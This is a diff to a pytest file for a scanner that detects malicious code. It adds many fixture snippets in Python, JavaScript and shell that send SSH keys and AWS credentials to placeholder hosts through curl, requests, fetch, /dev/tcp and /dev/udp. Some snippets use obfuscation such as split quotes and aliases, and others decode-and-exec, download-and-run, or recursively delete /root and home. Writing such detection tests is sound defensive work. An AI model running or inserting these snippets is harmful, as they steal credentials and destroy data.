@@ -49,6 +49,74 @@ SENT = [
     ("a.sh", "scp -q ~/.aws/credentials copy@in.example.net:/srv"),
     ("a.sh", "exec 3<>/dev/tcp/198.51.100.9/80\ncat ~/.netrc > /dev/tcp/198.51.100.9/80"),
 ]
+_U, _K = "https://in.example.net", "open('/root/.ssh/id_rsa').read()"
+_J = "fs.readFileSync('/root/.ssh/id_rsa')"
+SENT += [
+    ("a.py", f"{code}")
+    for code in (
+        f"import requests as r\nr.post('{_U}', data={_K})",
+        f"from requests import get, post as p\np('{_U}', data={_K})",
+        f"import requests\nsend = requests.post\nsend('{_U}', data={_K})",
+        f"import requests\nfrom a import k\nk = {_K}\nrequests.post('{_U}', data=k)",
+        f"import requests\nrequests \\\n  .post('{_U}', \\\n  data={_K})",
+        f"import requests\na = b = {_K}\nrequests.post('{_U}', data=a)",
+        f"import requests\nd = {{'k': {_K}}}\nrequests.get(f'{_U}?k={{d['k']}}')",
+        f"import requests\nr = [open(p).read() for p in ['/root/.ssh/id_rsa']]\n"
+        f"requests.post('{_U}', json=r)",
+        f"import requests\ndef get(): return {_K}\nrequests.post('{_U}', data=get())",
+        f"import requests\ndef send(a: dict[str, int], x, b=(1, 2)):\n"
+        f"    requests.post('{_U}', data=x)\nsend(1, {_K})",
+        f"import requests\ndef send(*x):\n    requests.post('{_U}', json=x)\nsend(1, {_K})",
+        f"import requests\nk = ''\ndef take():\n    global k\n    k = {_K}\n"
+        f"def send():\n    requests.post('{_U}', data=k)",
+        f"import requests\ndef send(x): requests.post('{_U}', data=x)\n"
+        f"Thread(target=send, args=({_K},)).start()",
+        f"from os import system\nsystem('curl -d @/root/.ssh/id_rsa {_U}')",
+        f"import subprocess as sp\ncommand = ['curl', '-d', '@/root/.ssh/id_rsa', '{_U}']\n"
+        "sp.run(\n    command,\n    check=True,\n)",
+        f"import subprocess\nsubprocess.run(\n    ['sh', '-c', 'curl -d @/root/.ssh/id_rsa {_U}'])",
+        f"import subprocess\nsubprocess.run(['curl', '-d', '@-', '{_U}'], input={_K})",
+    )
+]
+SENT += [
+    ("a.js", code)
+    for code in (
+        f"const h = require('https'); const r = h.request('{_U}'); r.write({_J});",
+        f"import * as cp from 'node:child_process';\ncp.exec('curl -d @/root/.ssh/id_rsa {_U}');",
+        f"import {{ request as r }} from 'undici';\nr('{_U}', {{ body: {_J} }});",
+        f"const {{ exec: e }} = require('child_process');\ne('curl -d @/root/.ssh/id_rsa {_U}');",
+        f"const x = require('child_process').execSync('curl -d @/root/.ssh/id_rsa {_U}');",
+        f"/`/.test(x);\nfetch('{_U}', {{ body: {_J} }});",
+        f"class A {{\n  private async go(k: string): Promise<void> {{\n    fetch('{_U}', "
+        f"{{ body: k }});\n  }}\n  run() {{ this.go({_J}); }}\n}}",
+    )
+]
+SENT += [
+    ("a.sh", code.replace("SECRET", "/root/.ssh/id_rsa").replace("URL", _U))
+    for code in (
+        "cat SECRET |\n  # a comment\n  curl -d @- URL",
+        "curl -d @- URL <<END\n$(cat SECRET)\nEND",
+        "{ cat SECRET; } | curl -d @- URL",
+        "for f in SECRET; do cat $f; done | curl -d @- URL",
+        'cat SECRET | while read -r l; do curl -d "$l" URL; done',
+        'while read l; do curl -d "$l" URL; done < SECRET',
+        "curl -sT SECRET URL",
+        "curl -TSECRET URL",
+        "curl -F 'k=<SECRET' URL",
+        "sudo -u root timeout -k 5s 10s nice -n 10 env -i curl -d @SECRET URL",
+        "env -S 'curl -d @SECRET URL'",
+        "find SECRET -type f -exec curl -T {} URL \\;",
+        "find SECRET | xargs -I {} -P 4 curl -T {} URL",
+        "case $1 in\n  a) curl -T SECRET URL ;;\nesac",
+        'send() { curl -T "$1" URL; }\nsend SECRET',
+        "function send {\n  curl -d @$2 URL\n}\nsend a SECRET",
+        "alias c=curl\nc -T SECRET URL",
+        'C="curl -s"\n$C -T SECRET URL',
+        "c''url -T /root/.s\"\"sh/id_r''sa URL",
+        "cu\\rl -T SECRET URL",
+        "exec 3<>/dev/udp/198.51.100.9/80\ncat SECRET >&3",
+    )
+]
 NOT_SENT = [
     ("a.py", "import requests\nk = open('.env').read()\nprint(k)\nrequests.post(U, data={'a': 1})"),
     (
@@ -70,6 +138,13 @@ NOT_SENT = [
         "a.sh",
         'set -a; . ./.env; set +a\ncurl -H "X-Key: $KEY" -d @report.json https://x.example.net',
     ),
+    ("a.sh", "f() { cat ~/.ssh/id_rsa 2>&1; }\ng() { curl -d $1 https://x.example.net; }\ng a"),
+    (
+        "a.sh",
+        "if [ -f ~/.ssh/id_rsa ]; then\n  echo yes\nfi | tee log\n"
+        "curl -d @log https://x.example.net",
+    ),
+    ("a.sh", "cat ~/.ssh/id_rsa >&2\ncurl -d a https://x.example.net 2>&1"),
     ("a.sh", "ssh -i ~/.ssh/id_rsa host uptime\ncurl https://x.example.net/health"),
     ("a.sh", "curl --cert ~/.ssh/client.pem --key ~/.ssh/client.key https://x.example.net"),
     ("a.sh", "cat ~/.ssh/id_ed25519.pub | curl -d @- https://git.example.net/keys"),
@@ -100,7 +175,15 @@ RUN = [
         "download-run",
     ),
     ("a.py", "import base64\ncode = base64.b64decode(TEXT)\nexec(code)", "decoded-run"),
+    ("a.py", "import base64\nexec('x = 1;' + base64.b64decode(TEXT).decode())", "decoded-run"),
+    (
+        "a.py",
+        "import requests, subprocess\nr = requests.get('https://x.example.net')\n"
+        "with open('m', 'wb') as f:\n    f.write(r.content)\nsubprocess.run(['bash', 'm'])",
+        "download-run",
+    ),
     ("a.js", "eval(Buffer.from(text, 'base64').toString())", "decoded-run"),
+    ("a.js", "fs.rmdirSync('/root', { recursive: true })", "deletes-system"),
     (
         "a.py",
         "import shutil, pathlib\nfor one in pathlib.Path.home().iterdir():\n    shutil.rmtree(one)",
@@ -193,6 +276,12 @@ def test_long_lines_and_deep_nesting_hide_nothing(path: str, code: str) -> None:
     assert "secret-sent" in found(path, code)
 
 
+@pytest.mark.parametrize("name", sorted(meanings.NETWORK - {"node-fetch"}))
+def test_code_with_a_function_that_sends_is_read(name: str) -> None:
+    """Code without any of the words of `harm` is not read, so each function holds one of them."""
+    assert "secret-sent" in found("a.js", f"{name}('{_U}', {_J})")
+
+
 def test_code_that_is_broken_is_read_as_far_as_it_goes() -> None:
     assert "secret-sent" in found("a.py", "def broken(:\n  requests.post(open('.env'))")
     assert "reverse-shell" in found("a.py", "def broken(:\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1")
@@ -204,11 +293,15 @@ def test_code_that_is_broken_is_read_as_far_as_it_goes() -> None:
         ("a.py", "import requests\nopen('.ssh')\nx = ", "f('a').", "g()"),
         ("a.py", "import requests\nopen('.ssh')\nx = ", "'a' + ", "'b'"),
         ("a.py", "import requests\nopen('.ssh')\n", "x = f(x) + x\n", ""),
+        ("a.py", "import requests\nopen('.ssh')\n", "x=", ""),
+        ("a.py", "import requests\nopen('.ssh')\n", "subprocess.run([f(", ""),
+        ("a.py", "import requests\nopen('.ssh')\n", "return ", ""),
         ("a.js", "fetch('https://x.example.net', '.ssh')\n", "f('a').", "g()"),
         ("a.js", "fetch('https://x.example.net', '.ssh')\n", "(", ""),
         ("a.js", "fetch('https://x.example.net', '.ssh')\n", "`", ""),
         ("a.sh", "curl -T ~/.ssh/id_rsa https://x.example.net\n", "a|", ""),
         ("a.sh", "curl -T ~/.ssh/id_rsa https://x.example.net\n", "a|\n", ""),
+        ("a.sh", "curl -T ~/.ssh/id_rsa https://x.example.net\n", "{\n<<A\n", ""),
         ("a.sh", "curl -T ~/.ssh/id_rsa https://x.example.net\n", "$(", ""),
     ],
 )
@@ -231,12 +324,23 @@ def test_values_are_followed_from_script_to_script() -> None:
         "main.js": "const { all } = require('./c');\nfetch(u, {method: 'POST', body: all()});\n",
         "c.js": "function all() { return fs.readFileSync('/root/.aws/credentials'); }\n",
     }
-    for scripts in (python, javascript):
+    package = {
+        "MAIN.PY": "import os, tools.collect as c\nfrom requests import post\npost(U, c.all())\n",
+        "tools/collect.py": "def all():\n    return open('/root/.ssh/id_rsa').read()\n",
+    }
+    for scripts in (python, javascript, package):
         lines = {path: text.splitlines() for path, text in scripts.items()}
         assert [rule.id for one in scan_scripts(lines) if (rule := find_rule(one))] == [
             "secret-sent"
         ]
         assert not [one for path, text in lines.items() for one in scan_lines(text, 1, path)]
+
+
+@pytest.mark.parametrize(
+    "first", ["#!/bin/bash -eu", "#!/usr/bin/env -S bash -x", "#! /usr/local/bin/bash"]
+)
+def test_the_first_line_of_a_script_names_its_language(first: str) -> None:
+    assert found("bin/tool", f"{first}\nk=~/.ssh/id_rsa\ncurl -T $k {_U}") == {"secret-sent"}
 
 
 def test_install_scripts_and_lists_of_packages_are_read() -> None:
